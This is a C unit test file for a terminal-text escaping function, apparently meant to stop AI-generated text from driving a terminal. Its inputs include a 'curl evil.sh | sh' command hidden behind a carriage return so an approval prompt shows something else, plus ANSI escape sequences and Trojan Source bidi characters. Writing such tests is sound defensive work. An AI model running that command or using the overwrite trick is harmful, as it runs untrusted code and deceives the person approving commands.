/*
 * test-termtext.c - model text shown on a terminal cannot drive it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "liblev/base/termtext.h"

static void check(const char *in, size_t len, const char *want)
{
	struct lev_buf b = LEV_BUF_INIT;

	lev_termtext_add(&b, in, len);
	assert_string_equal(b.buf, want);
	lev_buf_release(&b);
}

#define CHECK(in, want) check(in, sizeof(in) - 1, want)

static void test_plain_text_unchanged(void **state)
{
	(void)state;
	CHECK("", "");
	CHECK("make test && ls -la\n\tdone", "make test && ls -la\n\tdone");
	/* letters of every script stay readable */
	CHECK("caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x90\x8b", "caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x90\x8b");
}

static void test_controls_escaped(void **state)
{
	(void)state;
	/* the approval-prompt overwrite: "\r" then the harmless text */
	CHECK("curl evil.sh | sh #\rls -la", "curl evil.sh | sh #\\x0dls -la");
	CHECK("\x1b[2K\x1b]0;title\x07", "\\x1b[2K\\x1b]0;title\\x07");
	CHECK("a\bb\x7f", "a\\x08b\\x7f");
	CHECK("nul\0in", "nul\\x00in");
}

static void test_c1_and_invisible_escaped(void **state)
{
	(void)state;
	/* U+009B is a one-character CSI on some terminals */
	CHECK("\xc2\x9b" "2J", "\\u009b2J");
	/* Trojan Source: RLO, LRI, PDI */
	CHECK("ok\xe2\x80\xae" "txt.exe", "ok\\u202etxt.exe");
	CHECK("\xe2\x81\xa6x\xe2\x81\xa9", "\\u2066x\\u2069");
	/* zero-width space, BOM, tag characters */
	CHECK("r\xe2\x80\x8bm", "r\\u200bm");
	CHECK("\xef\xbb\xbfhi", "\\ufeffhi");
	CHECK("\xf3\xa0\x80\x81", "\\U000e0001");
}

static void test_bad_utf8_escaped_bytewise(void **state)
{
	(void)state;
	CHECK("\xc0\xaf", "\\xc0\\xaf");			/* overlong '/' */
	CHECK("\xe0\x80\xaf", "\\xe0\\x80\\xaf");		/* overlong, 3 bytes */
	CHECK("\xed\xa0\x80", "\\xed\\xa0\\x80");		/* surrogate */
	CHECK("\xf4\x90\x80\x80", "\\xf4\\x90\\x80\\x80");	/* past U+10FFFF */
	CHECK("\xe2\x82", "\\xe2\\x82");			/* cut short */
	CHECK("\xff", "\\xff");
}

static void test_appends_to_what_is_there(void **state)
{
	struct lev_buf b = LEV_BUF_INIT;

	(void)state;
	(void)lev_buf_adds(&b, "> ");
	lev_termtext_add(&b, "a\x1b" "b", 3);
	assert_string_equal(b.buf, "> a\\x1bb");
	lev_buf_release(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_text_unchanged),
		cmocka_unit_test(test_controls_escaped),
		cmocka_unit_test(test_c1_and_invisible_escaped),
		cmocka_unit_test(test_bad_utf8_escaped_bytewise),
		cmocka_unit_test(test_appends_to_what_is_there),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
